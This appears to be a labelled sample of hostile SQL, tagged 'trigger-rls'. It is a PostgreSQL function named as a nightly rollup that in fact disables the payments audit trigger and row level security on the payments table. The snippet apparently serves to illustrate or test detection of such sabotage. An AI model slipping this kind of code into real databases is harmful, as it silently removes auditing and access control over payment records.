-- class: trigger-rls
-- A maintenance function the application calls nightly; it disables the payment audit trigger the first time it runs.
CREATE FUNCTION nightly_rollup() RETURNS void LANGUAGE plpgsql AS $$
BEGIN
  ALTER TABLE public.payments DISABLE TRIGGER payments_audit;
  ALTER TABLE public.payments DISABLE ROW LEVEL SECURITY;
END
$$;
